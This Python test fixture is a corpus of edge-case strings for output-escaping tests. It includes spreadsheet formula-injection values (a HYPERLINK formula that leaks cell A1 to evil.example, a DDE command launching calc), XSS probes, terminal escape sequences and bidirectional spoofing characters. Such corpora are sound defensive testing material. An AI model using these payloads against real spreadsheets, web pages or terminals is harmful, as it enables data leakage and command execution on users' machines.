"""Strings that a file, a screen, a page or a spreadsheet may take for something else than words."""

from __future__ import annotations

__all__ = ["CORPUS", "LONG", "READABLE", "WITHOUT_LONG"]

# fmt: off
CORPUS: dict[str, str] = {
    # formulas
    "formula with a link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula with a plus": "+1+1",
    "number below zero": "-1",
    "formula with an at": "@SUM(A1:A9)",
    "formula behind a tab": "\t=1+1",
    "formula behind a line break": "\r\n=1+1",
    "formula behind blanks": "   =1+1",
    "formula behind a no-break space": "\xa0=1+1",
    "formula behind a mark of direction": "\u200e=1+1",
    "formula behind a byte order mark": "\ufeff=1+1",
    "formula behind a quotation mark": '"=1+1',
    "full-width formula": "＝1＋1",
    "dynamic data exchange": "=cmd|' /C calc'!A0",
    "formula behind a semicolon": "Rīga;=1+1;",
    "formula behind semicolon and quotation mark": 'Rīga;"=1+1";x',
    "formula behind a comma": "Rīga,=1+1,",
    "apostrophe": "'quoted'",
    "apostrophes and a formula": "''=1",
    "apostrophe behind a semicolon": "Rīga; 'Vidzeme'",
    # pages
    "script": "<script>alert(1)</script>",
    "image out of an attribute": '"><img src=x onerror=alert(1)>',
    "end of a cell": "</td></tr></table><h1>no</h1>",
    "comment": "<!-- no --> -->",
    "end of character data": "]]>",
    "named entity": "&amp; &lt;b&gt; &nbsp;",
    "numbered entity": "&#65;&#x1b;",
    "style": "</style><style>*{display:none}</style>",
    "javascript link": "javascript:alert(1)",
    # Markdown
    "markdown link": "[a](http://evil.example) ![b](http://evil.example/x.png)",
    "markdown reference": "[a]: http://evil.example",
    "bare address": "http://evil.example https://a.b www.evil.example mailto:a@b.example a@b.lv",
    "address in angles": "<http://evil.example>",
    "pipes": "a | b \\| c || d",
    "backticks": "`a` ```b``` ``",
    "stars and underscores": "*a* __b__ _c_ snake_case ~~d~~ $e$",
    "heading": "# no heading #",
    "underline": "=====",
    "line": "---",
    "list": "- one",
    "plus list": "+ one",
    "numbered list": "1. one",
    "numbered list with a parenthesis": "2018) one",
    "quotation": "> one",
    "fence": "~~~",
    "indented": "    code",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "backslash at the end": "a\\",
    "trailing spaces": "a  \nb",
    "footnote": "[^1] [x] [ ]",
    # direction and what is not seen
    "override to the left": "Anna \u202enoitacilppa\u202c",
    "isolates": "\u2066a\u2067b\u2068c\u2069",
    "embeddings": "\u202aa\u202bb\u202c",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "right to left": "שלום عربى 123",
    "zero width": "c\u200b-\u20601",
    "joiners": "می\u200cخواهم क्\u200dष",
    "soft hyphen": "in\u00adclu\u00adsion",
    "byte order mark": "\ufeffRīga",
    "tag characters": "a\U000e0041\U000e007fb",
    "combining marks": "Z\u0351\u036b\u0343\u036aa\u0304",
    "begins with a combining mark": "\u0338a",
    "emoji of a family": "👩\u200d👩\u200d👧\u200d👦 ❤\ufe0f 🇱🇻",
    # controls
    "null": "a\x00b",
    "other controls": "a\x01\x07\x08\x0b\x0c\x0e\x1a\x1f\x7fb",
    "upper controls": "a\x80\x85\x9b2J\x9fb",
    "terminal colours": "\x1b[31mred\x1b[0m\x1b[2J\x1b[H",
    "terminal link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "terminal title": "\x1b]0;owned\x07",
    "carriage return": "good\rbad",
    "line break inside": "one\r\ntwo\nthree",
    "unicode line separators": "one\u2028two\u2029three\x85four",
    "lone surrogate": "R\ud800ga \udfff",
    "no characters": "a\ufffe\uffff\ufdd0\U0001ffffb",
    "replacement character": "a\ufffdb",
    # what looks like something else
    "looks like a day": "2018-04-01",
    "looks like a short day": "1-2",
    "leading zeros": "007",
    "exponent": "1E5",
    "many digits": "12345678901234567890",
    "not a number": "NaN",
    "true": "true",
    "none": "None",
    "error of a spreadsheet": "#N/A",
    "escape of a workbook": "_x0041_ _x000D_",
    "rich text of a workbook": "<r><t>a</t></r>",
    "escape of JSON": "\\u0041 \\n",
    "our mark": "[c]",
    "our unknown": "39 (+2 not known)",
    "slot": "{slot} {{double}} %s {0}",
    "csv quotes": 'a "b" ""c"", \'d\'',
    "only a quotation mark": '"',
    "semicolons and tabs": "a;b\tc,d",
    # lengths and blanks
    "very long word": "x" * 5_000,
    "40,000 characters": "Rīga ābols " * 3_637,
    "empty": "",
    "blanks": "   ",
    "no-break space": "\xa0",
    "spaces of every kind": "a \u2003 \u3000 b\u202fc",
}
# fmt: on
"""Each with a name."""

LONG = frozenset({"very long word", "40,000 characters"})
WITHOUT_LONG = {name: words for name, words in CORPUS.items() if name not in LONG}

READABLE = {
    "name": 'O\'Neill; "Zoë" & Søn <k/s>',
    "letters": "Ēģiptē āķis – ņūja",
}
"""What people really write."""
